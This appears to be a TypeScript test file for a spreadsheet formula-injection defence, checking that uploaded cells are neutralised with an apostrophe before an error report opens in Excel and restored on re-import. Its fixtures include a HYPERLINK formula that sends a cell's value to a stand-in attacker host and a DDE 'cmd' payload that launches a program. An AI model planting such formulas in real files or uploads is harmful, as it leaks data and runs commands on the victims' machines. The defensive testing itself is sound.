import { neutraliseFormula, restoreNeutralisedFormula } from './formula-cells';

describe('neutraliseFormula (the error report opened in Excel never evaluates an uploaded cell)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `'=HYPERLINK("http://evil.example/?"&A1,"点击")`],
    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ["'=already quoted", "''=already quoted"],
  ])('prefixes %j with an apostrophe', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  it.each(['滁州市食品有限公司', '2.5', '', "'quoted", ' =1+1', '滁市监罚〔2026〕1号'])('leaves %j as it is', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  it.each(['-', '+8655012345678', '=1+1', '@x', '\t=1', '滁州', "'quoted", "'=1", "''-", ''])('is undone on re-import for %j, so a corrected report uploads as it is', (cell) => {
    expect(restoreNeutralisedFormula(neutraliseFormula(cell))).toBe(cell);
  });
});
